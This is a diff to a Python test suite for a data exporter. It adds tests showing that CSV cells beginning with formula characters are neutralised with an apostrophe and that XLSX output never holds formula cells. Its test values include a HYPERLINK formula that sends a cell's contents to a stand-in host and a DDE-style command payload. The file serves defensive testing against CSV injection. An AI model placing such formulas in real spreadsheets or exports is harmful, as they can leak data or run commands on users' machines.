@@ -32,7 +32,18 @@ TABLE = Table("things", "Daiktai", "Things", (
 ), "src s", "", "s.id")
 
 TRICKY = ["a;b", 'say "hi"', "two\nlines", "cr\rhere", "x & y < z > w", "ctl\x01char",
-          "Ąžuolaitis „kabutės“", "", None, "  spaces  "]
+          "Ąžuolaitis „kabutės“", "", None, "  spaces  ",
+          # What a spreadsheet would evaluate (OWASP "CSV injection"), and what it would not.
+          '=HYPERLINK("http://x.example/?"&A1;"spustelėkite")', "+cmd|' /C calc'!A0",
+          "-2+3", "@SUM(1+1)", "\tTAB", "\rCR", "a=b", "x-1", "'quoted"]
+
+# A CSV cell starting with one of these gets a leading apostrophe; JSON Lines and XLSX keep
+# the exact value.
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _neutral(v: object) -> object:
+    return "'" + v if isinstance(v, str) and v.startswith(FORMULA_LEADS) else v
 
 
 def _rows(n: int) -> list[tuple[object, ...]]:
@@ -44,6 +55,8 @@ def _rows(n: int) -> list[tuple[object, ...]]:
                      f"2026-11-{1 + i % 28:02d}T10:20:30.123456", "pastaba" if i % 5 else None,
                      # One chunk holds a state that must be quoted and escaped after all.
                      'bad;"&<word>\r\n' if i == 1500 else "submitted"))
+    # One chunk's JSON column holds a bare JSON number that a spreadsheet would compute.
+    rows[1700] = (*rows[1700][:4], "-1", *rows[1700][5:])
     return rows
 
 
@@ -85,7 +98,7 @@ def test_lines_match_the_csv_module_json_and_xlsx(tmp_path: Path, as_zip: bool,
     w = csv.writer(want, delimiter=";", lineterminator="\r\n")
     w.writerow([c.header for c in TABLE.columns])
     shown = [(r[0], r[1], r[2], r[3], r[4], str(r[5])[:19], r[6], r[7]) for r in rows]
-    w.writerows(shown)
+    w.writerows([_neutral(v) for v in r] for r in shown)
     assert read("csv/things.csv") == b"\xef\xbb\xbf" + want.getvalue().encode()
 
     objs = [json.loads(x) for x in read("jsonl/things.jsonl").decode().splitlines()]
@@ -94,6 +107,13 @@ def test_lines_match_the_csv_module_json_and_xlsx(tmp_path: Path, as_zip: bool,
         assert o == {"id": r[0], "name": r[1], "n": r[2], "flag": bool(r[3]),
                      "conditions": json.loads(str(r[4])), "at": str(r[5])[:19], "note": r[6],
                      "state": r[7]}
+
+    import zipfile as _zipfile
+
+    with _zipfile.ZipFile(tmp_path / "t.xlsx") as z:  # formulas stay text, never <f> cells
+        sheet_xml = z.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
+    assert b'<c t="inlineStr"><is><t>=HYPERLINK(' in sheet_xml
 
     from openpyxl import load_workbook
 
@@ -116,3 +136,9 @@ def test_lines_match_the_csv_module_json_and_xlsx(tmp_path: Path, as_zip: bool,
                 v = v or None  # an empty inline string reads back as no value
             expect.append(v)
         assert [x if x != "" else None for x in g] == expect, r
+
+
+def test_the_readme_says_how_formula_cells_are_written() -> None:
+    text = export._readme(ExportSpec(date(2026, 1, 1), date(2026, 12, 31)), [TABLE])
+    assert "with an apostrophe (') in front" in text
+    assert "jsonl/ and xlsx/ (text, never formulas) keep the exact values" in text
